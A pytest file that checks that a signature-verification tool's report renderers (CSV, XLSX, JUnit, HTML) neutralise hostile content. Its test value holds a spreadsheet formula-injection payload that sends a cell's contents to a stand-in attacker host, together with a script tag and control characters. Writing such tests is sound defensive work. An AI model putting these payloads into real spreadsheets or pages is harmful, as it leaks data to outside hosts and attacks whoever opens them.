"""Report renderers against hostile content: formulas, markup, control characters."""

from __future__ import annotations

import copy
import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tests.conftest import FIXTURES
from tests.helpers import check
from vnsign.batch.ledger import LedgerRow
from vnsign.render.batch_report import format_for, render
from vnsign.render.batch_rows import documents

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")\x07<script>alert(1)</script>'


@pytest.fixture(scope="module")
def rows() -> list[LedgerRow]:
    report = check("signed-doc-timestamp.pdf").to_dict()
    hostile = copy.deepcopy(report)
    hostile["signatures"][0]["signer"]["common_name"] = EVIL
    hostile["signatures"][0]["findings"][0]["message"]["en"] = "-2+3 \x00\x1b[31m"

    def row(path: str, data: dict[str, object]) -> LedgerRow:
        return LedgerRow(path=path, sha256=str(report["file"]["sha256"]), size=1, mtime_ns=1,
                         policy_fingerprint="x", indication=str(data["indication"]),
                         sub_indication=None, report_json=json.dumps(data), duration=0.1,
                         error=None, detail=None, verified_at="2026-11-26T15:00:00+07:00",
                         run_id=1)

    return [row(str(FIXTURES / "signed-doc-timestamp.pdf"), report),
            row("/nowhere/<b>evil</b>.pdf", hostile)]


def test_formats_by_extension() -> None:
    assert [format_for(f"r{ext}") for ext in (".jsonl", ".JSON", ".csv", ".xlsx", ".xml",
                                              ".htm", ".pdf")] == [
        "jsonl", "json", "csv", "xlsx", "junit", "html", None]


def test_csv_cells_are_never_formulas(rows: list[LedgerRow]) -> None:
    data = render("csv", documents(rows), lang="en").decode("utf-8-sig")
    parsed = list(csv.DictReader(io.StringIO(data)))
    evil = next(r for r in parsed if r["path"].endswith("evil</b>.pdf"))
    assert evil["signer"].startswith("'=HYPERLINK")


def test_xlsx_cells_are_text(rows: list[LedgerRow], tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "r.xlsx"
    target.write_bytes(render("xlsx", documents(rows), lang="vi"))
    wb = load_workbook(target)
    assert wb.sheetnames == ["Sổ đăng ký văn bản đến", "Văn bản", "Chữ ký số", "Tổng hợp"]
    # No sheet holds a formula, whatever the documents say (the register lists signers).
    for ws in wb.worksheets:
        assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"], ws.title
    register = wb["Sổ đăng ký văn bản đến"]
    assert any(c.value and "HYPERLINK" in str(c.value) for c in register["J"])
    sheet = wb["Chữ ký số"]
    header = [c.value for c in sheet[1]]
    column = header.index("Người ký") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    evil = [c for c in cells if c.value and "HYPERLINK" in str(c.value)]
    assert len(evil) == 1 and evil[0].data_type == "s"
    assert "\x07" not in str(evil[0].value)


def test_junit_survives_control_characters(rows: list[LedgerRow]) -> None:
    from vnsign.gate import CiPolicy, FailOn

    xml = render("junit", documents(rows, CiPolicy(fail_on=FailOn.WARNING)), lang="en",
                 ci=CiPolicy(fail_on=FailOn.WARNING))
    root = ET.fromstring(xml)
    cases = root.findall("./testsuite/testcase")
    assert len(cases) == 2 and all(c.get("classname") for c in cases)


def test_html_escapes_everything_and_allows_no_network(rows: list[LedgerRow]) -> None:
    page = render("html", documents(rows), lang="en").decode("utf-8")
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    assert "<b>evil</b>" not in page
    assert "default-src 'none'" in page
    assert "http://" not in page.replace("http://attacker.example", "")
    # The real document still on disk gets its stamp picture; the other cannot.
    assert page.count("data:image/png;base64,") == 1


@pytest.mark.parametrize("umask", [0o077, 0o027, 0o022])
def test_reports_respect_the_umask(rows: list[LedgerRow], tmp_path: Path, umask: int) -> None:
    """A report of MẬT documents is as private as the user's umask says (it used to be
    made 0644 whatever the umask)."""
    import os
    import stat

    from vnsign.render.batch_report import write

    previous = os.umask(umask)
    try:
        for name in ("r.jsonl", "r.csv", "r.html"):
            write(format_for(name) or "", documents(rows), str(tmp_path / name), lang="vi")
            mode = stat.S_IMODE((tmp_path / name).stat().st_mode)
            assert mode == 0o666 & ~umask, (name, oct(mode))
    finally:
        os.umask(previous)
